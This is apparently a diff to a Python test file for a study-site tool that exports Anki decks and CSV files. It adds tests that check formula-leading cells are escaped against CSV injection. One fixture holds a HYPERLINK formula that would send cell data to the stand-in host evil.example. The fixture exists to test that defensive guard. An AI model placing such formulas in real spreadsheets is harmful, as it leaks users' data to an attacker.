@@ -10,6 +10,7 @@ from __future__ import annotations
 import csv
 import html
 import io
+import itertools
 import json
 import re
 import sqlite3
@@ -23,7 +24,17 @@ import genanki
 import pytest
 
 from studysite import downloads
-from studysite.anki import CSV_COLUMNS, answer_text, note_model, stable_id, write_decks
+from studysite.anki import (
+    CSV_COLUMNS,
+    answer_text,
+    build_deck,
+    collection_bytes,
+    deck_specs,
+    note_model,
+    spreadsheet_text,
+    stable_id,
+    write_decks,
+)
 from studysite.build import build_site_model, generate, load_sources
 from studysite.errors import Problems
 from studysite.glossary import load_glossary, tooltip
@@ -220,13 +231,68 @@ def test_csv_is_rfc4180_utf8_with_bom_and_holds_the_same_notes(seed_model: Site,
         entry = seed_model.entries[row["id"]]
         assert row["question_zh"] == entry.text["zh"].text
         assert row["question_en"] == entry.text["en"].text
-        assert row["answer_zh"] == answer_text(entry.text["zh"])
+        assert row["answer_zh"] == spreadsheet_text(answer_text(entry.text["zh"]))  # "'- " before a list
         assert row["tags"] == " ".join(entry.tags)
         assert row["url_en"] == f"{SITE_URL}en/ai-infra-3/{entry.slug}/"
         assert row["answer_en_html"].startswith("<")
     multiline = next(r for r in body if "\n" in r["answer_zh"] and '"' not in r["answer_zh"])
     assert f'"{multiline["answer_zh"]}"' in text  # a field with line breaks is quoted, breaks kept as written
     assert '""optimal region""' in text  # a quote inside a field is doubled (Muon's English answer)
+
+
+FORMULA_BANK = """\
+公式题库
+Q: =HYPERLINK("https://evil.example/?"&A1,"点我")
++1+1 等于几？
+Q: @SUM(1,2) 是什么？
+- 以列表开头的答案。
+- -2 是负数。
+Q: 普通问题？
+普通答案 = 正常文字。
+"""
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    """OWASP's CSV-injection guard: a cell starting with = + - @, a tab or a CR gets a leading `'`."""
+    banks = tmp_path / "banks"
+    banks.mkdir()
+    (banks / "formula.txt").write_text(FORMULA_BANK, encoding="utf-8")
+    (banks / "taxonomy.yml").write_text((SEED / "taxonomy.yml").read_text(encoding="utf-8"), encoding="utf-8")
+    site, _ = site_model(banks)
+    write_decks(site, tmp_path / "out", SITE_URL, 1_750_000_000)
+    text = (tmp_path / "out" / downloads.bank_csv("formula")).read_bytes().decode("utf-8-sig")
+    rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(io.StringIO(text, newline="")))[1:]]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    hyperlink, at_sum, plain = rows
+    assert hyperlink["question_zh"] == '\'=HYPERLINK("https://evil.example/?"&A1,"点我")'
+    assert hyperlink["answer_zh"] == "'+1+1 等于几？"
+    assert at_sum["question_zh"] == "'@SUM(1,2) 是什么？"
+    assert at_sum["answer_zh"] == "'- 以列表开头的答案。\n- -2 是负数。"  # only the cell's first character counts
+    assert plain["question_zh"] == "普通问题？" and plain["answer_zh"] == "普通答案 = 正常文字。"
+    # the decks keep the text as written: Anki fields are HTML, not spreadsheet cells
+    deck = read_apkg(tmp_path / "out" / downloads.bank_deck("formula", "zh"))
+    assert any(n.fields[0].startswith('<div lang="zh">=HYPERLINK(') for n in deck.notes.values())
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_text_guards_every_formula_start(first: str) -> None:
+    assert spreadsheet_text(f"{first}1+1") == f"'{first}1+1"
+    assert spreadsheet_text(f"a{first}1") == f"a{first}1"
+    assert spreadsheet_text("") == ""
+
+
+def test_collections_are_genankis_own_bytes(seed_model: Site) -> None:
+    """anki.py inserts the note and card rows itself: they must be byte for byte genanki's own."""
+    for spec in deck_specs(seed_model):
+        deck = build_deck(seed_model, spec, SITE_URL)
+        conn = sqlite3.connect(":memory:")
+        try:
+            genanki.Package(deck).write_to_db(conn.cursor(), 1_750_000_000, itertools.count(1_750_000_000_000))
+            conn.commit()
+            assert collection_bytes(deck, 1_750_000_000) == conn.serialize(), spec.path
+        finally:
+            conn.close()
 
 
 def test_answer_text_writes_lists_as_plain_lines() -> None:
